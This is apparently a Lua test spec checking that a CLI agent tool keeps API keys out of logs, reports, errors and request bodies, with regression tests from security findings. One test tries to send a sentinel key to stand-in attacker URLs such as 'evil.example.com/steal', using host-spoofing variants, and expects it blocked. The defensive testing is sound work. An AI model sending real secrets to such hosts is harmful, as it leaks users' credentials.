--- Secrets, across every agent that takes a key: a sentinel key goes through
-- success, 4xx failures that echo it, 5xx retries, streams that split it,
-- feedback that would quote it, `--verbose`, `coax batch` and the Lua API,
-- and appears in no stdout, stderr, report, batch line, event, request body
-- (the conversation's history as the model sees it) or error text; the
-- server does get it, in the agent's auth header. The agents' own specs
-- check their wire formats; this is the one spec across them.
--
-- An agent is one line of AGENTS: how the mock server (spec/mock) answers it
-- is chosen by the path, so the steps below are the same for all. Agents
-- that take no key (replay, host, command) have nothing to leak.
local H = require "helper"
local coax = require "coax"
local P = require "providers"
local json = coax.json

local KEY = "sk-SENTINEL-3f9c2a7e-secrets-spec"
local SCHEMA = '{"type":"object","properties":{"name":{"type":"string"}},"required":["name"]}'
local GOOD = '{"name": "Ada"}'

--- name: the agent; env: where its key is; header, sent: how the server
-- sees it; base: the base URL from a scenario's (openai and anthropic speak
-- at .../v1, ollama at the root); agent: the recipe's agent field (ollama
-- takes no key of its own: a proxy's Authorization from the recipe).
local AGENTS = {
  { name = "openai", env = "OPENAI_API_KEY", header = "authorization", sent = "Bearer " .. KEY },
  { name = "anthropic", env = "ANTHROPIC_API_KEY", header = "x-api-key", sent = KEY },
  { name = "ollama", env = "OLLAMA_PROXY_API_KEY", header = "authorization", sent = "Bearer " .. KEY,
    base = function(url) return (url:gsub("/v1$", "")) end,
    agent = '{ name = "ollama", headers = { Authorization = "Bearer " .. '
      .. 'require("coax").secret("OLLAMA_PROXY_API_KEY") } }' },
}

-- The mock server and a folder for the recipes (providers.lua).
local fixture = P.harness {}

setup(function()
  local files = { ["schema.json"] = SCHEMA }
  for _, a in ipairs(AGENTS) do
    a.recipe = fixture:path(a.name .. ".lua")
    files[a.name .. ".lua"] = 'return { schema = "schema.json", prompt = "Who is in: {{input}}", max_attempts = 2'
      .. (a.agent and (", agent = " .. a.agent) or "") .. " }"
  end
  fixture:start(files)
end)

teardown(function() fixture:stop() end)

local function base_url(a, sc) return a.base and a.base(sc.base_url) or sc.base_url end

-- Every place the key must not be; `what` names the place in a failure.
local function clean(text, what)
  assert(not text:find(KEY, 1, true), what .. " holds the key:\n" .. text)
  assert(not text:find("SENTINEL", 1, true), what .. " holds part of the key:\n" .. text)
end

-- The server got the key where the agent puts it, and nowhere else: not in
-- any body, so not in the history of the conversation either.
local function sent_only_in_header(a, log)
  assert.is_true(#log > 0)
  for i, req in ipairs(log) do
    assert.are.equal(a.sent, req.headers[a.header], "request " .. i)
    clean(req.body, "request body " .. i)
    for name, value in pairs(req.headers) do
      if name ~= a.header then clean(value, "request header " .. name) end
    end
  end
end

--- `coax run` with the agent on `steps`, --report and extra arguments.
local function run(a, steps, extra)
  local sc = fixture:scenario(steps)
  local report = os.tmpname()
  local args = { "run", a.recipe, "--agent", a.name, "--base-url", base_url(a, sc), "--model", "m1",
    "--input", "-", "--report", report, "--agent-options", '{"retry_base_ms": 5}' }
  for _, x in ipairs(extra or {}) do args[#args + 1] = x end
  local out, err, code = H.coax(args, "Ada is here.", { [a.env] = KEY })
  local text = H.read(report)
  os.remove(report)
  return { out = out, err = err, code = code, report_text = text, report = assert(json.decode(text)),
    log = sc:log() }
end

local function echo(text) return "your key " .. KEY .. " " .. text end

for _, a in ipairs(AGENTS) do
  describe("the " .. a.name .. " agent's key", function()
    it("success, the key echoed in the value: the value says [redacted]", function()
      local r = run(a, { { reply = '{"name": "' .. KEY .. '"}' } })
      assert.are.same({ '{"name":"[redacted]"}\n', "", 0 }, { r.out, r.err, r.code })
      clean(r.report_text, "the report")
      sent_only_in_header(a, r.log)
    end)

    it("an invalid reply echoing it, then success: the feedback and the history hold [redacted]", function()
      local r = run(a, { { reply = "no JSON, but " .. KEY }, { reply = GOOD } })
      assert.are.same({ '{"name":"Ada"}\n', "", 0 }, { r.out, r.err, r.code })
      assert.are.equal(2, #r.log)
      clean(r.report_text, "the report")
      assert.matches("no JSON, but [redacted]", r.log[2].body, 1, true)
      sent_only_in_header(a, r.log)
    end)

    it("a 401 echoing it: agent_error (exit 3), the message redacted", function()
      local r = run(a, { { error = { status = 401, message = echo("is not valid"), type = "authentication_error" } },
        { reply = GOOD } })
      assert.are.same({ "", 3 }, { r.out, r.code })
      assert.matches("your key %[redacted%] is not valid", r.err)
      assert.are.equal(401, r.report.error.http_status)
      assert.matches("your key %[redacted%] is not valid", r.report.error.message)
      assert.are.equal(1, #r.log)
      clean(r.err, "stderr")
      clean(r.report_text, "the report")
      sent_only_in_header(a, r.log)
    end)

    it("500s echoing it, retried until the retries run out: agent_error (exit 3), redacted", function()
      local r = run(a, { { error = { status = 500, message = echo("broke the server") }, times = 3 } })
      assert.are.same({ "", 3 }, { r.out, r.code })
      assert.are.equal(500, r.report.error.http_status)
      assert.are.equal(2, r.report.attempts[1].retries)
      assert.matches("your key %[redacted%] broke the server %(after 2 retries%)$", r.report.error.message)
      assert.are.equal(3, #r.log)
      clean(r.err, "stderr")
      clean(r.report_text, "the report")
      sent_only_in_header(a, r.log)
    end)

    it("streamed, the key split across two events: redacted in the value and the report", function()
      local half = #KEY // 2
      local r = run(a, { { stream = { '{"name": "', KEY:sub(1, half), KEY:sub(half + 1), '"}' } } },
        { "--agent-options", '{"stream": true, "retry_base_ms": 5}' })
      assert.are.same({ '{"name":"[redacted]"}\n', "", 0 }, { r.out, r.err, r.code })
      clean(r.report_text, "the report")
      sent_only_in_header(a, r.log)
    end)

    it("--verbose: one line per request and response, none with the key", function()
      local r = run(a, { { error = { status = 503, message = echo("overloaded") } }, { reply = GOOD } },
        { "--verbose" })
      assert.are.same({ '{"name":"Ada"}\n', 0 }, { r.out, r.code })
      local lines = {}
      for line in r.err:gmatch("[^\n]+") do lines[#lines + 1] = line end
      assert.are.equal(5, #lines, r.err) -- 4 HTTP lines and the attempt told
      assert.are.equal("coax run: attempt 1: valid, accepted", lines[5])
      assert.matches("^coax run: http #1 > POST ", lines[1])
      assert.matches("^coax run: http #1 < 503 ", lines[2])
      clean(r.err, "stderr")
      clean(r.report_text, "the report")
      sent_only_in_header(a, r.log)
    end)

    it("coax batch --verbose: no output line and no log line holds it", function()
      local sc = fixture:scenario({ { reply = '{"name": "' .. KEY .. '"}' }, { error = { status = 400,
        message = echo("bad request"), type = "invalid_request_error" } } })
      local out, err, code = H.coax({ "batch", a.recipe, "--agent", a.name, "--base-url", base_url(a, sc),
        "--concurrency", "1", "--verbose", "--agent-options", '{"retry_base_ms": 5}' },
        '{"id": 1, "input": "A"}\n{"id": 2, "input": "B"}\n', { [a.env] = KEY })
      assert.are.equal(1, code)
      local lines = {}
      for line in out:gmatch("[^\n]+") do lines[#lines + 1] = assert(json.decode(line)) end
      assert.are.same({ "ok", "[redacted]" }, { lines[1].outcome, lines[1].value.name })
      assert.are.equal("agent_error", lines[2].outcome)
      assert.matches("your key %[redacted%] bad request", lines[2].error.message)
      clean(out, "batch's output")
      clean(err, "batch's stderr")
      sent_only_in_header(a, sc:log())
    end)

    it("from Lua: the report, the events and the error text", function()
      local sc = fixture:scenario({ { reply = "nothing but " .. KEY }, { error = { status = 403,
        message = echo("is forbidden"), type = "permission_error" } } })
      local events = {}
      local e = coax.engine({ secrets = { [a.env] = KEY } })
      local s = e:session(a.recipe, "Ada", { agent = a.name,
        agent_options = { base_url = base_url(a, sc), retry_base_ms = 5 },
        on_event = function(name, data) events[#events + 1] = name .. " " .. json.encode(data) end })
      while e:poll(50) > 0 do end
      local rep = s:report()
      assert.are.equal("agent_error", rep.outcome)
      assert.are.equal(403, rep.error.http_status)
      assert.matches("your key %[redacted%] is forbidden$", rep.error.message)
      clean(rep.error.message, "the error")
      clean(json.encode(rep), "the report")
      assert.is_true(#events >= 2, "events: " .. #events)
      clean(table.concat(events, "\n"), "the events")
      sent_only_in_header(a, sc:log())
    end)
  end)
end

-- Regression (attack, finding 13): a recipe's own agent put the host's key
-- in a header of a request to a server of its own. A secret now travels
-- only to its provider's host, to this machine, or to the host of a
-- base_url the host itself gave (--base-url, agent_options).
describe("where a secret may go", function()
  local function send_to(url, agent_options)
    return H.send_secret(url, KEY, { agent_options = agent_options }):match("^[^\n]*")
  end

  it("not to a server a recipe names", function()
    for _, c in ipairs({ { "https://evil.example.com/steal", "evil.example.com" },
      { "http://user@evil.example.com:8443/x", "evil.example.com" },
      { "http://127.evil.example.com/x", "127.evil.example.com" },
      { "https://API.OPENAI.COM.evil.example.com/v1", "api.openai.com.evil.example.com" } }) do
      local url, host = c[1], c[2]
      assert.are.equal("coax.http.request: the secret OPENAI_API_KEY does not go to "
        .. host .. " (only to its provider's host, this machine, or a base_url the host gave: --base-url, "
        .. "agent_options)", send_to(url):match("coax%.http%.request: .*"))
    end
  end)

  -- Regression (attack round 13's lead): a secret under 4 bytes went out and
  -- was never redacted (hiding every "k" would blank the record), so it
  -- stood in the log and the report. Now it is not sent.
  it("not when it is too short to keep out of the record; a secret of 4 bytes goes", function()
    for _, key in ipairs { "k", "k1", "abc" } do
      local msg = H.send_secret("http://127.0.0.1:9/x", key)
      assert.are.equal("coax.http.request: the secret OPENAI_API_KEY is " .. #key .. " bytes, too short to keep out of "
        .. "the session's record (at least 4)", msg:match("coax%.http%.request: [^\n]*"))
    end
    local msg = H.send_secret("http://127.0.0.1:9/x", "abcd")
    assert.matches("^sent: %a+", msg)
  end)

  it("to the host of a base_url the host gave (the request itself then fails here: no such server)", function()
    local msg = send_to("http://gateway.invalid/v1/chat", { base_url = "http://GATEWAY.invalid/v1" })
    assert.are.equal("agent_error", (msg:match("^sent: (%a+)") and "agent_error"), msg)
    assert.is_nil(msg:find("does not go to", 1, true))
  end)
end)

-- Regression (attack round 3): coax.engine kept pointers into the host's own
-- secrets table; a host that emptied it once the engine was made (so the
-- keys are not left lying around) made the next session read freed strings
-- (ASan: heap-use-after-free in find_secret; the key sent could be any
-- bytes). Restores 'a reply or a recipe never hurts its host' (clean
-- errors, never crashes): the engine keeps its own copy.
describe("the secrets a host hands coax.engine", function()
  it("are the engine's own copy: emptying the host's table changes nothing", function()
    local secrets = { [table.concat({ "OPENAI", "_API_KEY" })] = KEY .. string.rep("-", 40) }
    local e = coax.engine({ secrets = secrets })
    for k in pairs(secrets) do secrets[k] = nil end
    for i = 1, 200 do secrets["other" .. i] = string.rep("v", 40) .. i end -- a rehash drops the old keys
    collectgarbage()
    collectgarbage()
    local recipe = [[local coax = require "coax"
return { schema = { type = "object" }, prompt = "x", agent = { call = function()
  local r, e, kind = coax.http.request({ url = "http://127.0.0.1:9/", method = "POST", body = "{}",
    timeout_ms = 2000, headers = { Authorization = "Bearer " .. coax.secret("OPENAI_API_KEY") } })
  return nil, "sent: " .. tostring(kind) end } }]]
    local s = e:session(recipe, "x", { source = true })
    s:run()
    assert.are.equal("sent: connect", s:report().error.message:match("^[^\n]*"))
    e:close()
  end)
end)
